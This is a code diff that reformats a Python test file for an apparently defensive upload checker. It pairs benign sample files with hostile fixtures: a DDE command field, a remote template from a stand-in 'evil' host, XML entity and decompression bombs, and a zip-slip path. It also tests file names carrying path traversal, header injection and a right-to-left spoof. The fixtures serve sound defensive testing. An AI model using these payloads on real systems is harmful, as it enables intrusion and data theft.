@@ -49,10 +49,16 @@ def with_position():
 
 
 GOOD = {
-    "征地补偿协议.pdf": PDF, "照片.jpg": picture(), "照片.JPEG": picture(), "图.png": picture("PNG"),
-    "说明.docx": word(), "名单.xlsx": sheet(**{"xl/printerSettings/printerSettings1.bin": "x"}),
-    "记录.txt": "谈话记录\n第一行".encode(), "老文件.txt": "谈话记录".encode("gb18030"),
-    "录音.mp3": b"ID3\x04\x00" + b"\x00" * 50, "录像.mp4": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50,
+    "征地补偿协议.pdf": PDF,
+    "照片.jpg": picture(),
+    "照片.JPEG": picture(),
+    "图.png": picture("PNG"),
+    "说明.docx": word(),
+    "名单.xlsx": sheet(**{"xl/printerSettings/printerSettings1.bin": "x"}),
+    "记录.txt": "谈话记录\n第一行".encode(),
+    "老文件.txt": "谈话记录".encode("gb18030"),
+    "录音.mp3": b"ID3\x04\x00" + b"\x00" * 50,
+    "录像.mp4": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50,
 }
 
 
@@ -72,8 +78,11 @@ HOSTILE = {
     "old-as-new.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
     "entities.docx": word(**{"word/styles.xml": "<!DOCTYPE lolz [<!ENTITY a 'b'>]><x/>"}),
     "dde.docx": word(**{"word/footer.xml": "<w:instr>DDEAUTO c:\\\\cmd</w:instr>"}),
-    "remote.docx": word(**{"word/_rels/settings.xml.rels":
-                           '<R Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'}),
+    "remote.docx": word(
+        **{
+            "word/_rels/settings.xml.rels": '<R Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
+        }
+    ),
     "bomb.xlsx": sheet(**{"xl/worksheets/sheet1.xml": "0" * 30_000_000}),
     "bomb-many.docx": word(**{f"word/a{n}.xml": "" for n in range(4000)}),
     "slip.docx": word(**{"../../evil.txt": "x"}),
@@ -127,14 +136,25 @@ def test_position_in_a_recording_is_blanked():
     assert b"36.8500" not in check_file("a.mp4", raw).data
 
 
-@pytest.mark.parametrize(("raw", "name"), [
-    ("../../etc/passwd.txt", "passwd.txt"), ("..\\..\\a.txt", "a.txt"), ("C:\\x\\报告.pdf", "报告.pdf"),
-    ("a\x00.txt", "a.txt"), ("a\r\nSet-Cookie: x.txt", "aSet-Cookie_ x.txt"), ("<b>.txt", "_b_.txt"),
-    (".pdf", "attachment.pdf"), ("  a .txt", "a .txt"), ("photo\u202egpj.txt", "photogpj.txt"),
-    ("𠮷家.pdf", "𠮷家.pdf"),
-    ("a" * 300 + ".pdf", "a" * (NAME_LENGTH - 4) + ".pdf"), ("", "attachment"), (None, "attachment"),
-    ("...", "attachment"),
-])
+@pytest.mark.parametrize(
+    ("raw", "name"),
+    [
+        ("../../etc/passwd.txt", "passwd.txt"),
+        ("..\\..\\a.txt", "a.txt"),
+        ("C:\\x\\报告.pdf", "报告.pdf"),
+        ("a\x00.txt", "a.txt"),
+        ("a\r\nSet-Cookie: x.txt", "aSet-Cookie_ x.txt"),
+        ("<b>.txt", "_b_.txt"),
+        (".pdf", "attachment.pdf"),
+        ("  a .txt", "a .txt"),
+        ("photo\u202egpj.txt", "photogpj.txt"),
+        ("𠮷家.pdf", "𠮷家.pdf"),
+        ("a" * 300 + ".pdf", "a" * (NAME_LENGTH - 4) + ".pdf"),
+        ("", "attachment"),
+        (None, "attachment"),
+        ("...", "attachment"),
+    ],
+)
 def test_names_are_made_harmless(raw, name):
     assert safe_name(raw) == name and len(safe_name(raw)) <= NAME_LENGTH
 
